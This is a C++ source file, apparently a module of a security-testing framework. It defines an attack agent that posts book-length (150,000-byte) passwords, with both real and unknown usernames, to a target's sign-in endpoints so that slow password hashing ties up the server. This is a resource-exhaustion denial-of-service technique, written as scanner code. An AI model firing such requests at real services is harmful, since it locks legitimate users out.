// oversized-password: a password as long as a book. A slow hash of it, or only a copy, keeps the
// server busy, and a few such requests at once keep everybody else out.
#include "core/attack/every_agent.h"
#include "core/attack/options.h"
#include "core/attack/request_writer.h"
#include "core/attack/session.h"

namespace parapet::attack {
namespace {

constexpr std::size_t kBook = 150'000;  // bytes

class OversizedPassword final : public Agent {
    void run(Target& target) override {
        if (target.inside() == nullptr) return;
        std::string const book(kBook, static_cast<char>('a' + below(target.random(), 26)));
        sign_in(target, target.surface().attacker);
        for (Endpoint const* endpoint : endpoints_to_try(target)) {
            std::vector<std::string> values = samples(*endpoint);
            for (std::size_t i = 0; i < values.size(); ++i) {
                if (!holds_password(endpoint->parameters[i])) continue;
                values[i] = book;
                target.send(write_request(*endpoint, values));
                // For whom there is no account an app may hash as well, to take its time.
                std::size_t const name = username_parameter(*endpoint);
                if (name < values.size()) {
                    std::string const own = values[name];
                    values[name] = random_word(target, 9) + own;
                    target.send(write_request(*endpoint, values));
                    values[name] = own;
                }
                values[i] = endpoint->parameters[i].sample;
            }
        }
        target.inside()->watch_work(kBook);
    }
};

}  // namespace

std::unique_ptr<Agent> make_oversized_password() { return std::make_unique<OversizedPassword>(); }

}  // namespace parapet::attack
